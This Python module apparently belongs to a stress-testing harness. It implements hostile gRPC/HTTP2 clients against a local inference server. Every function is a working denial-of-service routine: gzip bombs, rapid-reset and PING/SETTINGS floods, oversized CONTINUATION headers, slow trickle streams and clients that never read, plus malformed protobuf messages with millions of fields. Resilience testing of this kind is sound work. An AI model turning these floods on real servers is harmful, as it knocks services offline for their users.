"""Hostile clients of gRPC: HTTP/2 frames on a bare socket, and grpcio where well-formed messages are the attack."""

from __future__ import annotations

import functools
import gzip
import itertools
import random
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import grpc
from tritonclient.grpc import service_pb2

from tools.bench.http2_client import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INFER,
    INITIAL_WINDOW_SIZE,
    LARGEST_WINDOW,
    PING,
    PREFACE,
    RST_STREAM,
    SETTING,
    SETTINGS,
    UINT32,
    WINDOW_UPDATE,
    call,
    frame,
    header_blocks,
)

from .attack import ATTEMPT_TIMEOUT_S, Target, read_away, reset
from .http_attacks import BOMB_BYTES, TRICKLE_S

CONTINUATION = 9
# By stream: where the first are refused the last may fit.
CLAIMS = dict(zip(range(1, 40, 2), [20_000_000] * 13 + [2_000_000] * 4 + [200_000] * 3, strict=True))
FRAMES = 5000


def message(model: str, count: int | None = None, id: str = "") -> bytes:
    """A request with two floats; with `count`, one that asks for so many values."""
    request = service_pb2.ModelInferRequest(model_name=model, id=id)
    if count is None:
        request.inputs.add(name="INPUT0", datatype="FP32", shape=[1, 2])
        request.raw_input_contents.append(bytes(8))
    else:
        request.inputs.add(name="COUNT", datatype="INT32", shape=[1])
        request.raw_input_contents.append(count.to_bytes(4, "little"))
    text: bytes = request.SerializeToString()
    return text


@contextmanager
def opened(target: Target) -> Iterator[socket.socket]:
    """A connection that has said hello, with the largest windows."""
    with target.grpc() as connection:
        greeting = frame(SETTINGS, 0, 0, SETTING.pack(INITIAL_WINDOW_SIZE, LARGEST_WINDOW))
        widened = frame(WINDOW_UPDATE, 0, 0, UINT32.pack(LARGEST_WINDOW - 65_535))
        connection.sendall(PREFACE + greeting + widened)
        yield connection


def claims_and_never_sends(target: Target) -> None:
    """The prefixes of large messages on a dozen streams, and a byte of each."""
    with opened(target) as connection:
        _claim(connection)
        while not target.stop.wait(TRICKLE_S):
            read_away(connection)


def trickles(target: Target) -> None:
    with opened(target) as connection:
        _claim(connection)
        while not target.stop.wait(TRICKLE_S):
            connection.sendall(b"".join(frame(DATA, 0, stream, b"\0") for stream in CLAIMS))
            read_away(connection)


def _claim(connection: socket.socket) -> None:
    for stream, length in CLAIMS.items():
        connection.sendall(call(stream, b"\0" + UINT32.pack(length) + b"\x0a"))


def never_reads(target: Target) -> None:
    """Asks for 8 MB on each of four streams, with windows wide open, and leaves the answers in the server."""
    with opened(target) as connection:
        asked = message("floats", 2_000_000)
        for stream in range(1, 8, 2):
            connection.sendall(call(stream, b"\0" + UINT32.pack(len(asked)) + asked, ends=True))
        target.hold(connection, ATTEMPT_TIMEOUT_S)
        reset(connection)


def sends_gzip_bombs(target: Target) -> None:
    """Messages of 60 KB that become 60 MB: what is large in them is the id."""
    content = bomb()
    data = b"\1" + UINT32.pack(len(content)) + content
    with opened(target) as connection:
        encoding = b"\x40\x0dgrpc-encoding\x04gzip"
        connection.sendall(frame(HEADERS, END_HEADERS, 1, header_blocks(INFER)[0] + encoding))
        for at in range(0, len(data), 16_384):
            piece = data[at : at + 16_384]
            connection.sendall(frame(DATA, END_STREAM if at + 16_384 >= len(data) else 0, 1, piece))
        _await_status(connection)


def _await_status(connection: socket.socket) -> None:
    """Reads until a call is answered. Raises EOFError at the end of the connection."""
    while b"grpc-status" not in (got := connection.recv(1 << 16)):
        if not got:
            raise EOFError


@functools.cache
def bomb() -> bytes:
    return gzip.compress(message("slow", id="a" * BOMB_BYTES))


def sends_tiny_fields(target: Target) -> None:
    """Two-byte fields behind a valid request, by the million: empty raw contents, unknown numbers, dimensions."""
    _ask(target, random.choice(tiny_fields()))


@functools.cache
def tiny_fields() -> list[bytes]:
    fields = [b"\x3a\x00" * 2_000_000, b"\x78\x00" * 500_000, b"\x2a\x00" * 1_000_000]
    return [message("echo") + many for many in fields]


def sends_dimensions(target: Target) -> None:
    _ask(target, dimensions())


@functools.cache
def dimensions() -> bytes:
    request = service_pb2.ModelInferRequest(model_name="echo")
    request.inputs.add(name="INPUT0", datatype="FP32", shape=[1] * 4_000_000)
    text: bytes = request.SerializeToString()
    return text


def sends_zeros_and_resets(target: Target) -> None:
    """Beginnings of messages, each taken back."""
    with opened(target) as connection:
        for stream in range(1, 1000, 2):
            connection.sendall(call(stream, b"\0" + UINT32.pack(60_001) + bytes(16_000)))
            connection.sendall(frame(DATA, 0, stream, bytes(16_000)) + frame(RST_STREAM, 0, stream, UINT32.pack(8)))
            read_away(connection)


def sends_much_metadata(target: Target) -> None:
    """Header blocks over every limit, in pieces; each is refused, and the connection goes on."""
    with opened(target) as connection:
        block = header_blocks(INFER)[0] + b"".join(b"\0\x05x-%03d\x7f\x81\x3e" % n + b"a" * 8064 for n in range(16))
        pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        for stream in range(1, 20, 2):
            connection.sendall(frame(HEADERS, 0, stream, pieces[0]))
            for piece in pieces[1:-1]:
                connection.sendall(frame(CONTINUATION, 0, stream, piece))
            connection.sendall(frame(CONTINUATION, END_HEADERS, stream, pieces[-1]))
            _await_status(connection)
            target.tally["calls refused"] += 1


def floods_with_settings(target: Target) -> None:
    _flood(target, itertools.repeat(frame(SETTINGS, 0, 0, SETTING.pack(INITIAL_WINDOW_SIZE, 1 << 20)) * FRAMES))


def floods_with_pings(target: Target) -> None:
    _flood(target, itertools.repeat(frame(PING, 0, 0, bytes(8)) * FRAMES))


def floods_with_resets(target: Target) -> None:
    opening = (range(start, start + 1000, 2) for start in range(1, 1 << 30, 1000))
    _flood(target, (b"".join(_taken_back(stream) for stream in streams) for streams in opening))


def floods_with_empty_data(target: Target) -> None:
    _flood(target, itertools.chain([call(1)], itertools.repeat(frame(DATA, 0, 1) * FRAMES)))


def floods_with_window_updates(target: Target) -> None:
    _flood(target, itertools.chain([call(1)], itertools.repeat(frame(WINDOW_UPDATE, 0, 1, UINT32.pack(1)) * FRAMES)))


def _taken_back(stream: int) -> bytes:
    return call(stream) + frame(RST_STREAM, 0, stream, UINT32.pack(8))


def _flood(target: Target, pieces: Any) -> None:
    with opened(target) as connection:
        for piece in pieces:
            if target.stop.is_set():
                return
            connection.sendall(piece)
            target.tally["flooded KiB"] += len(piece) >> 10
            read_away(connection)


def _ask(target: Target, text: bytes) -> None:
    with grpc.insecure_channel(f"127.0.0.1:{target.grpc_port}") as channel:
        try:
            channel.unary_unary(INFER)(text, timeout=ATTEMPT_TIMEOUT_S)
            target.tally["status OK"] += 1
        except grpc.RpcError as error:
            target.tally[f"status {error.code().name}"] += 1
